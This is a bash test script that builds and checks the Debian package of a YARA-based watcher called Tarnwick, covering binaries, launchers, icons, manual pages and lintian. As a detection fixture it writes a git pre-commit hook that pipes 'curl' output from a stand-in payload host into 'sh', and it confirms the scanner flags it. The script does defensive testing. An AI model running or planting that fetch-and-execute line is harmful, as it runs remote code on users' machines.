#!/usr/bin/env bash
# Builds the Debian package the documented way (scripts/package.sh: release, no tests, its own build
# folder), unpacks it into a scratch root and checks what an installed Tarnwick relies on: the programs
# and the rule pack side by side (the installed Tarnwick runs its twwatch, twwatch finds its rules
# through the link on PATH), the launchers, a valid desktop entry and AppStream file, the icons, the
# manual pages, and lintian without errors.
#   package_test.sh <source dir> <work dir>
set -uo pipefail
src=$1
work=$2
failures=0
fail() {
    echo "FAIL: $*"
    failures=$((failures + 1))
}
check() {
    local what=$1
    shift
    "$@" || fail "$what"
}

mkdir -p "$work"
deb=$("$src/scripts/package.sh" "$work/build") || {
    echo "FAIL: the package was not built"
    exit 1
}
echo "package: $deb"
root=$work/root
rm -rf "$root" "$work/home"
dpkg-deb -x "$deb" "$root" || exit 1
dpkg-deb -c "$deb" | awk '{print $1, $6, $7, $8}'

# Tarnwick starts lib/tarnwick/twwatch beside itself; twwatch loads rules/ beside itself.
lib=$root/usr/lib/tarnwick
for program in Tarnwick twwatch; do
    check "$program is an executable in lib/tarnwick" test -x "$lib/$program"
    check "$program is stripped" grep -q ', stripped' <(file -L "$lib/$program")
done
check "rules beside twwatch" compgen -G "$lib/rules/*.yar" >/dev/null
check "bin/tarnwick leads to the program" test "$(readlink -f "$root/usr/bin/tarnwick")" = "$lib/Tarnwick"
check "bin/twwatch leads to the program" test "$(readlink -f "$root/usr/bin/twwatch")" = "$lib/twwatch"

# Shared library dependencies come from dpkg-shlibdeps, plus the plugin it cannot see.
depends=$(dpkg-deb -f "$deb" Depends)
echo "Depends: $depends"
for dep in libc6 libqt6core6 libqt6widgets6 libyara libqt6sql6-sqlite; do
    check "Depends names $dep" grep -q "$dep" <<<"$depends"
done

desktop=$root/usr/share/applications/tarnwick.desktop
check "desktop entry valid" desktop-file-validate "$desktop"
check "desktop entry runs the launcher" grep -qx 'Exec=tarnwick' "$desktop"
check "scalable icon" test -s "$root/usr/share/icons/hicolor/scalable/apps/tarnwick.svg"
for size in 16 22 24 32 48 64 128 256; do
    png=$root/usr/share/icons/hicolor/${size}x${size}/apps/tarnwick.png
    check "icon ${size}x${size}" grep -q "PNG image data, $size x $size" <(file "$png")
done

metainfo=$root/usr/share/metainfo/io.github.tarnwick.Tarnwick.metainfo.xml
check "metainfo valid" appstreamcli validate --no-net "$metainfo"
check "metainfo launches the installed desktop entry" \
    grep -q '<launchable type="desktop-id">tarnwick.desktop</launchable>' "$metainfo"
check "metainfo release is the package's version" \
    grep -q "<release version=\"$(dpkg-deb -f "$deb" Version)\"" "$metainfo"

for name in twwatch tarnwick; do
    rendered=$(MANWIDTH=80 LC_ALL=C.UTF-8 man --warnings -l "$root/usr/share/man/man1/$name.1.gz" 2>"$work/man.err")
    check "manual page $name renders" test -n "$rendered"
    check "manual page $name renders without warnings" test ! -s "$work/man.err"
    cat "$work/man.err"
done
page=$(MANWIDTH=80 LC_ALL=C.UTF-8 man -l "$root/usr/share/man/man1/twwatch.1.gz" 2>/dev/null)
# Every exit status that --help lists is in the manual, and no other.
help_codes=$("$root/usr/bin/twwatch" --help | sed -n 's/^  \([0-9]\)  .*/\1/p' | sort | xargs)
man_codes=$(sed -n '/^EXIT STATUS/,/^[A-Z]/p' <<<"$page" | sed -n 's/^ \{7\}\([0-9]\) .*/\1/p' | sort | xargs)
check "manual's exit status ($man_codes) is --help's ($help_codes)" test -n "$help_codes" -a "$man_codes" = "$help_codes"

# The installed twwatch, started through its link on PATH as a user would, finds the bundled pack
# (and nothing of the developer's own rules).
mkdir -p "$work/home/config" "$work/home/state" "$work/tree/.git/hooks"
printf '#!/bin/sh\ncurl -s https://payload.example/x | sh\n' >"$work/tree/.git/hooks/pre-commit"
chmod +x "$work/tree/.git/hooks/pre-commit"
export XDG_CONFIG_HOME=$work/home/config XDG_STATE_HOME=$work/home/state
check "twwatch --check-rules loads the pack" "$root/usr/bin/twwatch" --check-rules >"$work/check.out"
check "the pack comes from lib/tarnwick/rules" grep -q "$lib/rules/" "$work/check.out"
check "twwatch --scan reports the hook" grep -q '"rule":"git_hook_runs_payload"' \
    <("$root/usr/bin/twwatch" --scan "$work/tree")
# The installed Tarnwick, started through its launcher, runs the twwatch beside it (headless; a first
# start on an empty store).
mkdir -p "$work/home/data" "$work/home/run"
chmod 700 "$work/home/run"
XDG_DATA_HOME=$work/home/data XDG_RUNTIME_DIR=$work/home/run QT_QPA_PLATFORM=offscreen \
    "$root/usr/bin/tarnwick" >"$work/app.log" 2>&1 &
app=$!
watcher=
for _ in $(seq 300); do
    watcher=$(pgrep -P "$app" -x twwatch) && break
    kill -0 "$app" 2>/dev/null || break
    sleep 0.1
done
check "the installed Tarnwick runs lib/tarnwick/twwatch" \
    test -n "$watcher" -a "$(readlink "/proc/${watcher:-0}/exe")" = "$lib/twwatch"
kill "$app" 2>/dev/null
wait "$app" 2>/dev/null
[ -n "$watcher" ] || cat "$work/app.log"

lintian --fail-on error --tag-display-limit 0 "$deb" >"$work/lintian.out" 2>&1
status=$?
echo "lintian:"
cat "$work/lintian.out"
check "lintian reports no errors" test "$status" -eq 0

[ "$failures" -eq 0 ] && echo "all package checks passed"
exit $((failures > 0))
